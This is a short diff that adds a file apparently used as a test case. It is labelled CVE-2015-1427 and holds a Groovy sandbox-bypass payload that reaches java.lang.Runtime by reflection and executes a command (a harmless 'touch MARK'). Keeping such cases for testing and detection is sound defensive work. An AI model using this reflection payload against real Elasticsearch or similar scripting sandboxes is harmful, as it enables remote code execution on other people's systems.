@@ -1,0 +1,8 @@
+// CVE-2015-1427 (Elasticsearch: Groovy sandbox bypass by reflection)
+// java.lang.Math.class.forName
+event X {
+    on { 'a' }
+    as {
+        java.lang.Math.class.forName('java.lang.Runtime').getRuntime().exec('touch MARK')
+    }
+}
